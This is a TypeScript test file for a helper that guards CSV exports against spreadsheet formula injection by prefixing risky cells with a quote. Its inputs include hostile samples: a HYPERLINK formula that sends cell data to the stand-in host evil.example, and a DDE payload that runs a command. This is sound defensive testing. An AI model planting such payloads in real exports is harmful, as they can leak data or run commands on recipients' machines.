import { readCsv } from '@maternity-qi/network-data';
import { describe, expect, it } from 'vitest';
import { spreadsheetSafe, toSpreadsheetSafeCsv } from './spreadsheet-safe.ts';

describe('spreadsheetSafe', () => {
  it('puts a quote before text a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(spreadsheetSafe(`${start}SUM(A1:A9)`)).toBe(`'${start}SUM(A1:A9)`);
    }
  });

  it('leaves other text alone, including formula characters after the first', () => {
    for (const text of ['Site A (London)', 'a=b', 'x+1', 'lead@site.nhs.uk', ' =1', '', "'=already"]) {
      expect(spreadsheetSafe(text)).toBe(text);
    }
  });

  it('leaves numbers, booleans and empty cells as they are', () => {
    expect(spreadsheetSafe(-2)).toBe(-2);
    expect(spreadsheetSafe(0)).toBe(0);
    expect(spreadsheetSafe(true)).toBe(true);
    expect(spreadsheetSafe(null)).toBeNull();
    expect(spreadsheetSafe(undefined)).toBeUndefined();
  });

  it('matches its documented examples', () => {
    expect(spreadsheetSafe('=HYPERLINK("https://evil.example","Click")')).toBe(
      '\'=HYPERLINK("https://evil.example","Click")',
    );
    expect(spreadsheetSafe('-2 on last month')).toBe("'-2 on last month");
    expect(spreadsheetSafe('Site A (London)')).toBe('Site A (London)');
  });
});

describe('toSpreadsheetSafeCsv', () => {
  it('matches its documented examples', () => {
    expect(toSpreadsheetSafeCsv([{ name: '=1+1', n: -3 }], ['name', 'n'])).toBe("name,n\r\n'=1+1,-3\r\n");
    expect(toSpreadsheetSafeCsv([{ name: '@a, b' }], ['name'])).toBe('name\r\n"\'@a, b"\r\n');
  });

  it('quotes, neutralises and reads back cell for cell', () => {
    const rows = [
      { who: '=HYPERLINK("https://evil.example?x="&A1,"Open")', note: 'line one\nline two', n: 12 },
      { who: '+44 20 7946 0000', note: '\t=cmd|" /C calc"!A0', n: null },
      { who: 'Plain name', note: 'say "hello"', n: -1 },
    ];
    const text = toSpreadsheetSafeCsv(rows, ['who', 'note', 'n']);
    const { records, problems } = readCsv(text);
    expect(problems).toEqual([]);
    expect(records.map((r) => r.fields)).toEqual([
      ['who', 'note', 'n'],
      ['\'=HYPERLINK("https://evil.example?x="&A1,"Open")', 'line one\nline two', '12'],
      ["'+44 20 7946 0000", '\'\t=cmd|" /C calc"!A0', ''],
      ['Plain name', 'say "hello"', '-1'],
    ]);
    // No cell of the file, once parsed, starts a formula.
    for (const record of records)
      for (const field of record.fields) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('neutralises header names too (a column named by user input)', () => {
    expect(toSpreadsheetSafeCsv([], ['=x' as never])).toBe("'=x\r\n");
  });
});
